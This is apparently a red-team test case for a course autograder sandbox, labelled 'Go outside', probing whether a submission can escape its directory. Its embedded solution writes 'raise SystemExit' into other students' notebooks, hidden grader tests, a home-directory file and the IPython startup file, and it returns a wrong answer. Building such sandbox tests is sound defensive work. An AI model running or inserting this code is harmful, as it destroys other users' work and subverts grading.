"""Other submissions, home and the interpreter's startup files are written to."""

CATEGORY = "Go outside"
POINTS = 0
STOCK = "damages the course"
SOLUTION = """
import os
for path in ('../../right/mini/mini.ipynb', '../../../submitted/right/mini/mini.ipynb', '~/secret.txt',
             '../../../submitted/neighbour/mini/mini.ipynb', '../../../grader_tests/mini/center/test_hidden.py',
             '~/.ipython/profile_default/startup/00.py', '../../../redteam_marker', '/tmp/redteam_marker'):
    try:
        path = os.path.expanduser(path)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, 'w').write('raise SystemExit')
    except OSError as error:
        print(error.strerror)
def center(X):
    return X * 0
"""
